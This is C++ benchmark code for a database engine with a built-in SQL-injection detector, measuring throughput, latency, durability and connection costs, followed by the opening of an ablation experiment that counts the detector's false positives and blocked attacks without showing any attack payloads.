      for (int i = 0; i < cycles; ++i) {
        timed(point_sqls[static_cast<size_t>((c * 131 + i) % kScanPointKeys)],
              plat);
        timed(range_sqls[static_cast<size_t>((c * 37 + i) % kScanRangeLos)],
              glat);
        timed(order_sql, olat);
      }
      client.query("COMMIT");
      client.quit();
    });
  }
  while (pinned.load(std::memory_order_acquire) < clients) {
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  // Chain an old version: every client snapshot now predates table
  // history, which is exactly the case the covering index fixes.
  db.execute_admin("UPDATE big SET pad = 'dirty' WHERE id = 1");
  auto t0 = Clock::now();
  go.store(true, std::memory_order_release);
  for (auto& t : threads) t.join();
  double wall = std::chrono::duration<double>(Clock::now() - t0).count();

  ScanResult r;
  std::vector<double> points, ranges, orders;
  for (auto& v : point_lat) points.insert(points.end(), v.begin(), v.end());
  for (auto& v : range_lat) ranges.insert(ranges.end(), v.begin(), v.end());
  for (auto& v : order_lat) orders.insert(orders.end(), v.begin(), v.end());
  for (size_t e : errors) r.errors += e;
  std::sort(points.begin(), points.end());
  std::sort(ranges.begin(), ranges.end());
  std::sort(orders.begin(), orders.end());
  r.queries = points.size() + ranges.size() + orders.size();
  r.qps = wall > 0 ? static_cast<double>(r.queries) / wall : 0;
  r.pp50_us = percentile(points, 0.50);
  r.pp99_us = percentile(points, 0.99);
  r.gp50_us = percentile(ranges, 0.50);
  r.gp99_us = percentile(ranges, 0.99);
  r.op50_us = percentile(orders, 0.50);
  r.op99_us = percentile(orders, 0.99);
  server->stop();
  return r;
}

#if defined(SEPTIC_BENCH_HAS_DURABILITY)

struct DurResult {
  double qps = 0;
  double wp50_us = 0;
  double wp99_us = 0;
  size_t writes = 0;
  size_t errors = 0;
  uint64_t commits = 0;  // WAL records appended during the measured window
  uint64_t fsyncs = 0;   // fsync(2) calls during the measured window
  double commits_per_fsync = 0;
};

// 100% autocommit INSERTs over the net stack: every statement is one
// commit record + (under full durability) one group-commit ack.
DurResult run_durability(septic::storage::wal::DurabilityMode mode,
                         bool durable, int clients, int per_client) {
  static int dir_counter = 0;
  std::string dir = "/tmp/septic_bench_dur_" + std::to_string(::getpid()) +
                    "_" + std::to_string(dir_counter++);
  std::filesystem::remove_all(dir);

  std::unique_ptr<septic::engine::Database> db;
  if (durable) {
    septic::storage::wal::DurableStorage::Options opts;
    opts.dir = dir;
    opts.mode = mode;
    db = std::make_unique<septic::engine::Database>(std::move(opts));
  } else {
    db = std::make_unique<septic::engine::Database>();
  }
  db->execute_admin(
      "CREATE TABLE dur (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");

  septic::net::ServerOptions sopts;
  sopts.max_connections = 0;
  auto server = std::make_unique<septic::net::Server>(*db, 0, sopts);
  server->start();
  uint16_t port = server->port();

  septic::storage::wal::DurabilityStats before = db->durability_stats();
  std::vector<std::vector<double>> lat(static_cast<size_t>(clients));
  std::vector<size_t> errors(static_cast<size_t>(clients), 0);
  std::vector<std::thread> threads;
  threads.reserve(static_cast<size_t>(clients));
  auto t0 = Clock::now();
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      septic::net::Client client(port);
      auto& l = lat[static_cast<size_t>(c)];
      l.reserve(static_cast<size_t>(per_client));
      for (int i = 0; i < per_client; ++i) {
        std::string sql = "INSERT INTO dur (v) VALUES ('c" +
                          std::to_string(c) + "i" + std::to_string(i) + "')";
        auto q0 = Clock::now();
        try {
          client.query(sql);
        } catch (const std::exception&) {
          ++errors[static_cast<size_t>(c)];
        }
        l.push_back(
            std::chrono::duration<double, std::micro>(Clock::now() - q0)
                .count());
      }
      client.quit();
    });
  }
  for (auto& t : threads) t.join();
  double wall = std::chrono::duration<double>(Clock::now() - t0).count();
  septic::storage::wal::DurabilityStats after = db->durability_stats();

  DurResult r;
  std::vector<double> all;
  for (auto& v : lat) all.insert(all.end(), v.begin(), v.end());
  std::sort(all.begin(), all.end());
  for (size_t e : errors) r.errors += e;
  r.writes = all.size();
  r.qps = wall > 0 ? static_cast<double>(all.size()) / wall : 0;
  r.wp50_us = percentile(all, 0.50);
  r.wp99_us = percentile(all, 0.99);
  r.commits = after.wal.appends - before.wal.appends;
  r.fsyncs = after.wal.fsyncs - before.wal.fsyncs;
  r.commits_per_fsync =
      r.fsyncs > 0
          ? static_cast<double>(after.wal.sync_calls - before.wal.sync_calls) /
                static_cast<double>(r.fsyncs)
          : 0.0;
  server->stop();
  db.reset();
  std::filesystem::remove_all(dir);
  return r;
}

#endif  // SEPTIC_BENCH_HAS_DURABILITY

// ---------------------------------------------------------------------------
// PR9: prepared-statement sweep. Each client prepares
// "SELECT id, v FROM bench WHERE id = ?" on its own connection, then
// interleaves timed pairs: one EXEC with a cycling key, then the
// byte-identical literal SELECT as a plain QUERY against the warm digest
// cache. Interleaving on one connection measures both ops under identical
// server warmth and concurrent load — running them as separate phases
// handed whichever phase ran second an already-hot server and skewed the
// comparison by several microseconds. Under prevention the old engine
// re-ran the full parse+verdict pipeline per EXEC while the warm QUERY
// rode the digest cache; the new engine verdicts once at PREPARE, so EXEC
// p50 should sit at or below the warm-QUERY hit.
//
// Throughput attribution under interleaving: the client is closed-loop
// serial, so the wall time spent in an op class is the sum of its
// latencies; exec_qps = execs / (exec-attributed wall per client),
// aggregated across clients.
// ---------------------------------------------------------------------------

struct PrepResult {
  double exec_qps = 0;
  double query_qps = 0;
  double ep50_us = 0;  // EXEC latencies
  double ep99_us = 0;
  double qp50_us = 0;  // byte-identical warm QUERY latencies
  double qp99_us = 0;
  size_t execs = 0;
  size_t queries = 0;
  size_t errors = 0;
  uint64_t reverdicts = 0;  // EXEC-path structural re-verdicts (new engine)
};

PrepResult run_prepared(bool prevention, int clients, int per_client) {
  septic::engine::Database db;
  db.execute_admin(
      "CREATE TABLE bench (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  for (int i = 0; i < kRows; i += 32) {
    std::string sql = "INSERT INTO bench (v) VALUES ";
    for (int j = 0; j < 32; ++j) {
      if (j) sql += ", ";
      sql += "('row" + std::to_string(i + j) + "')";
    }
    db.execute_admin(sql);
  }

  std::shared_ptr<septic::core::Septic> septic;
  if (prevention) {
    septic = std::make_shared<septic::core::Septic>();
    septic->set_log_processed_queries(false);
    septic->set_mode(septic::core::Mode::kTraining);
    db.set_interceptor(septic);
    // One literal execution trains the query model; the template's '?'
    // wildcard validates against the same model at PREPARE time.
    septic::engine::Session trainer("bench-trainer");
    db.execute(trainer, "SELECT id, v FROM bench WHERE id = 1");
    septic->set_mode(septic::core::Mode::kPrevention);
  }

  // Warm the digest cache for the QUERY phase (same two-pass scheme as
  // run_one); the EXEC phase never touches the digest cache.
  {
    septic::engine::Session warm("bench-warm");
    for (int pass = 0; pass < 2; ++pass) {
      for (int key = 1; key <= kRows; ++key) {
        db.execute(warm, "SELECT id, v FROM bench WHERE id = " +
                             std::to_string(key));
      }
    }
  }

  septic::net::ServerOptions opts;
  opts.max_connections = 0;
  auto server = std::make_unique<septic::net::Server>(db, 0, opts);
  server->start();
  uint16_t port = server->port();

  PrepResult r;
  std::vector<std::vector<double>> elat(static_cast<size_t>(clients));
  std::vector<std::vector<double>> qlat(static_cast<size_t>(clients));
  std::vector<size_t> errors(static_cast<size_t>(clients), 0);

  {
    std::vector<std::thread> threads;
    threads.reserve(static_cast<size_t>(clients));
    for (int c = 0; c < clients; ++c) {
      threads.emplace_back([&, c] {
        septic::net::Client client(port);
        auto& el = elat[static_cast<size_t>(c)];
        auto& ql = qlat[static_cast<size_t>(c)];
        el.reserve(static_cast<size_t>(per_client));
        ql.reserve(static_cast<size_t>(per_client));
        uint64_t id = client.prepare("SELECT id, v FROM bench WHERE id = ?");
        // Off-clock warm of BOTH ops on this connection: the mode-flip
        // re-verdict, the server's accept/dispatch path, and the
        // allocator all settle before the clock starts.
        for (int w = 0; w < 32; ++w) {
          int key = w % kRows + 1;
          client.execute(id, {septic::sql::Value(static_cast<int64_t>(key))});
          client.query("SELECT id, v FROM bench WHERE id = " +
                       std::to_string(key));
        }
        for (int i = 0; i < per_client; ++i) {
          int64_t key = (c * 131 + i) % kRows + 1;
          auto q0 = Clock::now();
          try {
            client.execute(id, {septic::sql::Value(key)});
          } catch (const std::exception&) {
            ++errors[static_cast<size_t>(c)];
          }
          el.push_back(std::chrono::duration<double, std::micro>(Clock::now() -
                                                                 q0)
                           .count());
          std::string sql =
              "SELECT id, v FROM bench WHERE id = " + std::to_string(key);
          q0 = Clock::now();
          try {
            client.query(sql);
          } catch (const std::exception&) {
            ++errors[static_cast<size_t>(c)];
          }
          ql.push_back(std::chrono::duration<double, std::micro>(Clock::now() -
                                                                 q0)
                           .count());
        }
        client.quit();
      });
    }
    for (auto& t : threads) t.join();
  }

  // The client loop is serial, so per-op wall time is the sum of that
  // op's latencies; aggregate qps = ops / (attributed wall / clients).
  auto reduce = [&](std::vector<std::vector<double>>& per_client_lat,
                    double& qps, double& p50, double& p99) -> size_t {
    std::vector<double> all;
    double total_us = 0;
    for (auto& v : per_client_lat) {
      for (double us : v) total_us += us;
      all.insert(all.end(), v.begin(), v.end());
    }
    std::sort(all.begin(), all.end());
    p50 = percentile(all, 0.50);
    p99 = percentile(all, 0.99);
    double attributed_s = total_us / 1e6 / std::max(1, clients);
    qps = attributed_s > 0 ? static_cast<double>(all.size()) / attributed_s : 0;
    return all.size();
  };
  r.execs = reduce(elat, r.exec_qps, r.ep50_us, r.ep99_us);
  r.queries = reduce(qlat, r.query_qps, r.qp50_us, r.qp99_us);

  for (size_t e : errors) r.errors += e;
#if defined(SEPTIC_BENCH_HAS_PREPARED)
  r.reverdicts = db.prepared_reverdicts();
#endif
  server->stop();
  return r;
}

#if defined(SEPTIC_BENCH_HAS_PREPARED)

// ---------------------------------------------------------------------------
// PR9: pipelining sweep. One client posts batches of B warm SELECTs per
// round-trip and then collects the B replies; B = 1 is the old synchronous
// cadence. No interceptor — this measures the transport, and the old
// blocking client cannot pipeline at all (its B=1 numbers are the QUERY
// column of the prepared sweep).
// ---------------------------------------------------------------------------

struct PipeResult {
  double qps = 0;
  double bp50_us = 0;  // per-batch round-trip latency
  double bp99_us = 0;
  size_t replies = 0;
  size_t errors = 0;
};

PipeResult run_pipeline(int batch, int total_queries) {
  septic::engine::Database db;
  db.execute_admin(
      "CREATE TABLE bench (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  for (int i = 0; i < kRows; i += 32) {
    std::string sql = "INSERT INTO bench (v) VALUES ";
    for (int j = 0; j < 32; ++j) {
      if (j) sql += ", ";
      sql += "('row" + std::to_string(i + j) + "')";
    }
    db.execute_admin(sql);
  }
  {
    septic::engine::Session warm("bench-warm");
    for (int key = 1; key <= kRows; ++key) {
      db.execute(warm,
                 "SELECT id, v FROM bench WHERE id = " + std::to_string(key));
    }
  }

  septic::net::ServerOptions opts;
  opts.max_connections = 0;
  auto server = std::make_unique<septic::net::Server>(db, 0, opts);
  server->start();

  PipeResult r;
  septic::net::Client client(server->port());
  for (int w = 0; w < 3; ++w) {
    client.query("SELECT id, v FROM bench WHERE id = 1");
  }
  const int batches = total_queries / batch;
  std::vector<double> blat;
  blat.reserve(static_cast<size_t>(batches));
  int key = 0;
  auto t0 = Clock::now();
  for (int b = 0; b < batches; ++b) {
    auto q0 = Clock::now();
    for (int i = 0; i < batch; ++i) {
      key = key % kRows + 1;
      client.post_query("SELECT id, v FROM bench WHERE id = " +
                        std::to_string(key));
    }
    for (int i = 0; i < batch; ++i) {
      try {
        client.read_reply();
        ++r.replies;
      } catch (const std::exception&) {
        ++r.errors;
      }
    }
    blat.push_back(
        std::chrono::duration<double, std::micro>(Clock::now() - q0).count());
  }
  double wall = std::chrono::duration<double>(Clock::now() - t0).count();
  client.quit();
  std::sort(blat.begin(), blat.end());
  r.qps = wall > 0 ? static_cast<double>(r.replies) / wall : 0;
  r.bp50_us = percentile(blat, 0.50);
  r.bp99_us = percentile(blat, 0.99);
  server->stop();
  return r;
}

#endif  // SEPTIC_BENCH_HAS_PREPARED

// ---------------------------------------------------------------------------
// PR9: idle-connection sweep. Open N connections that never speak, then
// measure what holding them costs the server process (thread count and
// VmRSS from /proc/self/status — the server runs in-process, so both
// reflect it) and what one active client's latency looks like through the
// crowd. The old server pinned a thread per connection; the new one holds
// them as epoll registrations.
// ---------------------------------------------------------------------------

struct IdleResult {
  int requested = 0;
  int opened = 0;
  long threads_before = 0;
  long threads_after = 0;
  long rss_kb_before = 0;
  long rss_kb_after = 0;
  double open_ms = 0;   // wall time to open + register all idle conns
  double ap50_us = 0;   // active client's latency with the crowd held
  double ap99_us = 0;
  size_t errors = 0;
};

long proc_status_field(const char* key) {
  FILE* f = std::fopen("/proc/self/status", "r");
  if (!f) return -1;
  char line[256];
  long value = -1;
  size_t key_len = std::strlen(key);
  while (std::fgets(line, sizeof(line), f)) {
    if (std::strncmp(line, key, key_len) == 0 && line[key_len] == ':') {
      value = std::atol(line + key_len + 1);
      break;
    }
  }
  std::fclose(f);
  return value;
}

IdleResult run_idle(int requested, int active_queries) {
  IdleResult r;
  r.requested = requested;

  // Each idle connection costs two fds in this process (client + server
  // side); leave headroom for the suite's own files and sockets.
  rlimit rl{};
  if (::getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur != RLIM_INFINITY) {
    long ceiling = (static_cast<long>(rl.rlim_cur) - 64) / 2;
    if (ceiling < 0) ceiling = 0;
    if (requested > ceiling) requested = static_cast<int>(ceiling);
  }

  septic::engine::Database db;
  db.execute_admin(
      "CREATE TABLE bench (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  db.execute_admin("INSERT INTO bench (v) VALUES ('row')");
  {
    septic::engine::Session warm("bench-warm");
    db.execute(warm, "SELECT id, v FROM bench WHERE id = 1");
    db.execute(warm, "SELECT id, v FROM bench WHERE id = 1");
  }

  septic::net::ServerOptions opts;
  opts.max_connections = 0;
  auto server = std::make_unique<septic::net::Server>(db, 0, opts);
  server->start();
  uint16_t port = server->port();

  r.threads_before = proc_status_field("Threads");
  r.rss_kb_before = proc_status_field("VmRSS");

  std::vector<int> idle_fds;
  idle_fds.reserve(static_cast<size_t>(requested));
  auto t0 = Clock::now();
  for (int i = 0; i < requested; ++i) {
    int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) break;
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(port);
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) < 0) {
      ::close(fd);
      break;
    }
    idle_fds.push_back(fd);
  }
  // Wait until the server has registered (and, on the old model, spawned a
  // thread for) every idle connection before sampling.
  for (int spin = 0; spin < 1000; ++spin) {
    if (server->active_connections() >= idle_fds.size()) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  r.open_ms =
      std::chrono::duration<double, std::milli>(Clock::now() - t0).count();
  r.opened = static_cast<int>(idle_fds.size());
  r.threads_after = proc_status_field("Threads");
  r.rss_kb_after = proc_status_field("VmRSS");

  // One active client works through the crowd.
  {
    septic::net::Client client(port);
    std::vector<double> lat;
    lat.reserve(static_cast<size_t>(active_queries));
    for (int w = 0; w < 3; ++w) {
      client.query("SELECT id, v FROM bench WHERE id = 1");
    }
    for (int i = 0; i < active_queries; ++i) {
      auto q0 = Clock::now();
      try {
        client.query("SELECT id, v FROM bench WHERE id = 1");
      } catch (const std::exception&) {
        ++r.errors;
      }
      lat.push_back(
          std::chrono::duration<double, std::micro>(Clock::now() - q0).count());
    }
    client.quit();
    std::sort(lat.begin(), lat.end());
    r.ap50_us = percentile(lat, 0.50);
    r.ap99_us = percentile(lat, 0.99);
  }

  for (int fd : idle_fds) ::close(fd);
  server->stop();
  return r;
}

}  // namespace

int main() {
  const int per_client = env_int("SEPTIC_BENCH_NET_QUERIES", 300);
  const std::vector<int> counts = client_counts();
  const char* json_path = std::getenv("SEPTIC_BENCH_JSON");
  if (!json_path || !*json_path) json_path = "BENCH_PR10.json";

  std::printf("# PR6/PR7: multi-client closed-loop throughput over the net "
              "stack, point vs read-heavy (90/10) workloads\n");
  std::printf("# queries/client=%d worker_threads=%zu hw_threads=%u\n",
              per_client, septic::net::ServerOptions{}.worker_threads,
              std::thread::hardware_concurrency());
  std::printf("%-12s %-10s %8s %10s %10s %10s %10s %10s %8s %9s\n", "config",
              "workload", "clients", "qps", "rp50_us", "rp99_us", "wp50_us",
              "wp99_us", "errors", "hit_rate");

  const SepticMode modes[] = {SepticMode::kOff, SepticMode::kTraining,
                              SepticMode::kPrevention};
  const Workload workloads[] = {Workload::kPoint, Workload::kReadHeavy};
  std::string json = "{\n  \"bench\": \"throughput_concurrent\",\n";
  json += "  \"queries_per_client\": " + std::to_string(per_client) + ",\n";
  json += "  \"worker_threads\": " +
          std::to_string(septic::net::ServerOptions{}.worker_threads) + ",\n";
  json += "  \"hardware_threads\": " +
          std::to_string(std::thread::hardware_concurrency()) + ",\n";
  json += "  \"configs\": {\n";
  for (size_t m = 0; m < 3; ++m) {
    json += std::string("    \"") + mode_name(modes[m]) + "\": {\n";
    for (size_t w = 0; w < 2; ++w) {
      json += std::string("      \"") + workload_name(workloads[w]) + "\": {\n";
      for (size_t i = 0; i < counts.size(); ++i) {
        int n = counts[i];
        RunResult r = run_one(modes[m], workloads[w], n, per_client);
        double hit_rate =
            r.cache_hits + r.cache_misses
                ? static_cast<double>(r.cache_hits) /
                      static_cast<double>(r.cache_hits + r.cache_misses)
                : 0.0;
        std::printf("%-12s %-10s %8d %10.0f %10.1f %10.1f %10.1f %10.1f %8zu "
                    "%8.1f%%\n",
                    mode_name(modes[m]), workload_name(workloads[w]), n, r.qps,
                    r.rp50_us, r.rp99_us, r.wp50_us, r.wp99_us, r.errors,
                    100.0 * hit_rate);
        std::fflush(stdout);
        char buf[384];
        std::snprintf(buf, sizeof(buf),
                      "        \"%d\": {\"qps\": %.1f, \"rp50_us\": %.1f, "
                      "\"rp99_us\": %.1f, \"wp50_us\": %.1f, "
                      "\"wp99_us\": %.1f, \"reads\": %zu, \"writes\": %zu, "
                      "\"errors\": %zu, "
                      "\"cache_hits\": %llu, \"cache_misses\": %llu}%s\n",
                      n, r.qps, r.rp50_us, r.rp99_us, r.wp50_us, r.wp99_us,
                      r.reads, r.writes, r.errors,
                      static_cast<unsigned long long>(r.cache_hits),
                      static_cast<unsigned long long>(r.cache_misses),
                      i + 1 < counts.size() ? "," : "");
        json += buf;
      }
      json += w == 0 ? "      },\n" : "      }\n";
    }
    json += m + 1 < 3 ? "    },\n" : "    }\n";
  }
  json += "  }";

#if defined(SEPTIC_BENCH_HAS_DURABILITY)
  const int dur_per_client = env_int("SEPTIC_BENCH_DUR_QUERIES", 200);
  std::printf("\n# PR7: durability sweep, 100%% autocommit INSERTs "
              "(inserts/client=%d)\n",
              dur_per_client);
  std::printf("%-12s %8s %10s %10s %10s %8s %9s %8s %13s\n", "durability",
              "clients", "qps", "wp50_us", "wp99_us", "errors", "commits",
              "fsyncs", "commits/fsync");
  struct DurMode {
    const char* name;
    septic::storage::wal::DurabilityMode mode;
    bool durable;
  };
  const DurMode dur_modes[] = {
      {"off", septic::storage::wal::DurabilityMode::kOff, false},
      {"relaxed", septic::storage::wal::DurabilityMode::kRelaxed, true},
      {"full", septic::storage::wal::DurabilityMode::kFull, true},
  };
  json += ",\n  \"durability\": {\n";
  for (size_t m = 0; m < 3; ++m) {
    json += std::string("    \"") + dur_modes[m].name + "\": {\n";
    for (size_t i = 0; i < counts.size(); ++i) {
      int n = counts[i];
      DurResult r = run_durability(dur_modes[m].mode, dur_modes[m].durable, n,
                                   dur_per_client);
      std::printf("%-12s %8d %10.0f %10.1f %10.1f %8zu %9llu %8llu %13.2f\n",
                  dur_modes[m].name, n, r.qps, r.wp50_us, r.wp99_us, r.errors,
                  static_cast<unsigned long long>(r.commits),
                  static_cast<unsigned long long>(r.fsyncs),
                  r.commits_per_fsync);
      std::fflush(stdout);
      char buf[320];
      std::snprintf(buf, sizeof(buf),
                    "      \"%d\": {\"qps\": %.1f, \"wp50_us\": %.1f, "
                    "\"wp99_us\": %.1f, \"writes\": %zu, \"errors\": %zu, "
                    "\"commits\": %llu, \"fsyncs\": %llu, "
                    "\"commits_per_fsync\": %.2f}%s\n",
                    n, r.qps, r.wp50_us, r.wp99_us, r.writes, r.errors,
                    static_cast<unsigned long long>(r.commits),
                    static_cast<unsigned long long>(r.fsyncs),
                    r.commits_per_fsync, i + 1 < counts.size() ? "," : "");
      json += buf;
    }
    json += m + 1 < 3 ? "    },\n" : "    }\n";
  }
  json += "  }";
#endif  // SEPTIC_BENCH_HAS_DURABILITY

  // --- PR9: prepared-statement sweep (runs on both API generations) ------
  const int prep_per_client = env_int("SEPTIC_BENCH_PREP_QUERIES", 300);
  std::printf("\n# PR9: prepared EXEC vs byte-identical warm QUERY "
              "(execs/client=%d)\n",
              prep_per_client);
  std::printf("%-12s %8s %10s %10s %10s %10s %10s %8s %10s\n", "config",
              "clients", "exec_qps", "ep50_us", "ep99_us", "qp50_us",
              "qp99_us", "errors", "reverdicts");
  const bool prep_modes[] = {false, true};
  json += ",\n  \"prepared\": {\n";
  for (size_t m = 0; m < 2; ++m) {
    const char* name = prep_modes[m] ? "prevention" : "off";
    json += std::string("    \"") + name + "\": {\n";
    for (size_t i = 0; i < counts.size(); ++i) {
      int n = counts[i];
      PrepResult r = run_prepared(prep_modes[m], n, prep_per_client);
      std::printf("%-12s %8d %10.0f %10.1f %10.1f %10.1f %10.1f %8zu %10llu\n",
                  name, n, r.exec_qps, r.ep50_us, r.ep99_us, r.qp50_us,
                  r.qp99_us, r.errors,
                  static_cast<unsigned long long>(r.reverdicts));
      std::fflush(stdout);
      char buf[384];
      std::snprintf(buf, sizeof(buf),
                    "      \"%d\": {\"exec_qps\": %.1f, \"query_qps\": %.1f, "
                    "\"ep50_us\": %.1f, \"ep99_us\": %.1f, "
                    "\"qp50_us\": %.1f, \"qp99_us\": %.1f, "
                    "\"execs\": %zu, \"queries\": %zu, \"errors\": %zu, "
                    "\"reverdicts\": %llu}%s\n",
                    n, r.exec_qps, r.query_qps, r.ep50_us, r.ep99_us,
                    r.qp50_us, r.qp99_us, r.execs, r.queries, r.errors,
                    static_cast<unsigned long long>(r.reverdicts),
                    i + 1 < counts.size() ? "," : "");
      json += buf;
    }
    json += m == 0 ? "    },\n" : "    }\n";
  }
  json += "  }";

  // --- PR10: scan-heavy sweep (runs on both engine generations) ---------
  const int scan_rows = env_int("SEPTIC_BENCH_SCAN_ROWS", 100000);
  const int scan_cycles = env_int("SEPTIC_BENCH_SCAN_CYCLES", 50);
  std::vector<int> scan_counts = parse_counts("SEPTIC_BENCH_SCAN_CLIENTS",
                                              "1,4");
  std::printf("\n# PR10: scan-heavy, pinned-snapshot point/range/order-limit "
              "(rows=%d, cycles/client=%d)\n",
              scan_rows, scan_cycles);
  std::printf("%-12s %8s %10s %10s %10s %10s %10s %10s %10s %8s\n", "config",
              "clients", "qps", "pp50_us", "pp99_us", "gp50_us", "gp99_us",
              "op50_us", "op99_us", "errors");
  const bool scan_modes[] = {false, true};
  json += ",\n  \"scanheavy\": {\n";
  json += "    \"rows\": " + std::to_string(scan_rows) + ",\n";
  json += "    \"cycles_per_client\": " + std::to_string(scan_cycles) + ",\n";
  for (size_t m = 0; m < 2; ++m) {
    const char* name = scan_modes[m] ? "prevention" : "off";
    json += std::string("    \"") + name + "\": {\n";
    for (size_t i = 0; i < scan_counts.size(); ++i) {
      int n = scan_counts[i];
      ScanResult r = run_scanheavy(scan_modes[m], n, scan_rows, scan_cycles);
      std::printf(
          "%-12s %8d %10.0f %10.1f %10.1f %10.1f %10.1f %10.1f %10.1f %8zu\n",
          name, n, r.qps, r.pp50_us, r.pp99_us, r.gp50_us, r.gp99_us,
          r.op50_us, r.op99_us, r.errors);
      std::fflush(stdout);
      char buf[384];
      std::snprintf(buf, sizeof(buf),
                    "      \"%d\": {\"qps\": %.1f, "
                    "\"pp50_us\": %.1f, \"pp99_us\": %.1f, "
                    "\"gp50_us\": %.1f, \"gp99_us\": %.1f, "
                    "\"op50_us\": %.1f, \"op99_us\": %.1f, "
                    "\"queries\": %zu, \"errors\": %zu}%s\n",
                    n, r.qps, r.pp50_us, r.pp99_us, r.gp50_us, r.gp99_us,
                    r.op50_us, r.op99_us, r.queries, r.errors,
                    i + 1 < scan_counts.size() ? "," : "");
      json += buf;
    }
    json += m == 0 ? "    },\n" : "    }\n";
  }
  json += "  }";

#if defined(SEPTIC_BENCH_HAS_PREPARED)
  // --- PR9: pipelining sweep (new client API only) -----------------------
  const int pipe_total = env_int("SEPTIC_BENCH_PIPE_QUERIES", 512);
  std::printf("\n# PR9: pipelined batches, one client, warm SELECTs "
              "(queries/batch-size=%d)\n",
              pipe_total);
  std::printf("%8s %10s %10s %10s %8s\n", "batch", "qps", "bp50_us", "bp99_us",
              "errors");
  const int batch_sizes[] = {1, 8, 32, 128};
  json += ",\n  \"pipeline\": {\n";
  for (size_t i = 0; i < 4; ++i) {
    PipeResult r = run_pipeline(batch_sizes[i], pipe_total);
    std::printf("%8d %10.0f %10.1f %10.1f %8zu\n", batch_sizes[i], r.qps,
                r.bp50_us, r.bp99_us, r.errors);
    std::fflush(stdout);
    char buf[256];
    std::snprintf(buf, sizeof(buf),
                  "    \"%d\": {\"qps\": %.1f, \"bp50_us\": %.1f, "
                  "\"bp99_us\": %.1f, \"replies\": %zu, \"errors\": %zu}%s\n",
                  batch_sizes[i], r.qps, r.bp50_us, r.bp99_us, r.replies,
                  r.errors, i + 1 < 4 ? "," : "");
    json += buf;
  }
  json += "  }";
#endif  // SEPTIC_BENCH_HAS_PREPARED

  // --- PR9: idle-connection sweep ----------------------------------------
  {
    const int idle_conns = env_int("SEPTIC_BENCH_IDLE_CONNS", 1000);
    IdleResult r = run_idle(idle_conns, 200);
    std::printf("\n# PR9: idle-connection hold (requested=%d)\n", r.requested);
    std::printf("%8s %8s %10s %10s %10s %10s %10s %10s %10s\n", "opened",
                "thr_b4", "thr_after", "rss_b4_kb", "rss_kb", "open_ms",
                "ap50_us", "ap99_us", "errors");
    std::printf("%8d %8ld %10ld %10ld %10ld %10.1f %10.1f %10.1f %10zu\n",
                r.opened, r.threads_before, r.threads_after, r.rss_kb_before,
                r.rss_kb_after, r.open_ms, r.ap50_us, r.ap99_us, r.errors);
    std::fflush(stdout);
    char buf[384];
    std::snprintf(buf, sizeof(buf),
                  ",\n  \"idle\": {\"requested\": %d, \"opened\": %d, "
                  "\"threads_before\": %ld, \"threads_after\": %ld, "
                  "\"rss_kb_before\": %ld, \"rss_kb_after\": %ld, "
                  "\"open_ms\": %.1f, \"ap50_us\": %.1f, \"ap99_us\": %.1f, "
                  "\"errors\": %zu}",
                  r.requested, r.opened, r.threads_before, r.threads_after,
                  r.rss_kb_before, r.rss_kb_after, r.open_ms, r.ap50_us,
                  r.ap99_us, r.errors);
    json += buf;
  }

  json += "\n}\n";

  if (FILE* f = std::fopen(json_path, "w")) {
    std::fputs(json.c_str(), f);
    std::fclose(f);
    std::printf("\n# wrote %s\n", json_path);
  } else {
    std::fprintf(stderr, "cannot write %s\n", json_path);
    return 1;
  }
  return 0;
}

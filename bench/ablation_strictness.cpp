// Experiment E10 (ablation) — data-type strictness in the detector.
//
// The query model blanks DATA but keeps the DATA_TYPE of every data node.
// How strictly should types match? Two readings:
//   strict      INT_ITEM vs DECIMAL_ITEM is a mismatch (the literal reading
//               of Section II-C3's "checks if its element is equal");
//   compatible  the two numeric types are one category (this repo's
//               default), because the same numeric form field legitimately
//               produces both.
// This ablation trains on each app's standard crawl and then replays
// randomized benign form traffic whose numeric fields vary between integer
// and decimal spellings, counting false positives; the attack corpus runs
// after, confirming detection power is identical (no payload can exploit
// an INT<->DECIMAL swap — smuggling structure requires a STRING or element
// change, which both settings flag).
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

struct Result {
  size_t benign_total = 0;
  size_t false_positives = 0;
  size_t attacks_total = 0;
  size_t attacks_blocked = 0;
};

Result run(const std::string& app_name, bool strict, uint64_t seed) {
  engine::Database db;
  std::unique_ptr<web::App> app;
  if (app_name == "tickets") {
    app = std::make_unique<web::apps::TicketsApp>();
  } else {
    app = std::make_unique<web::apps::WaspMonApp>();
  }
  app->install(db);
  auto guard = std::make_shared<core::Septic>();
  guard->set_log_processed_queries(false);
  guard->set_strict_numeric_types(strict);
  db.set_interceptor(guard);
  web::WebStack stack(*app, db);

  guard->set_mode(core::Mode::kTraining);
  web::train_on_application(stack);
  guard->set_mode(core::Mode::kPrevention);

  Result r;
  // Randomized benign traffic; the generator keeps numeric fields numeric
  // but varies their spelling across integer and decimal forms.
  auto requests = attacks::random_benign_requests(app_name, seed, 120);
  for (auto& request : requests) {
    // Flip roughly half the pure-integer values to decimal spelling.
    for (auto& [k, v] : request.params) {
      if (!v.empty() &&
          v.find_first_not_of("0123456789") == std::string::npos &&
          (std::hash<std::string>{}(k + v) % 2) == 0) {
        v += ".5";
      }
    }
    ++r.benign_total;
    if (stack.handle(request).blocked()) ++r.false_positives;
  }

  auto corpus = app_name == "tickets" ? attacks::tickets_attacks()
                                      : attacks::waspmon_attacks();
  for (const auto& attack : corpus) {
    ++r.attacks_total;
    bool blocked = false;
    for (const auto& setup : attack.setup) {
      if (stack.handle(setup).blocked()) blocked = true;
    }
    if (!blocked) blocked = stack.handle(attack.attack).blocked();
    if (blocked) ++r.attacks_blocked;
  }
  return r;
}

}  // namespace

int main() {
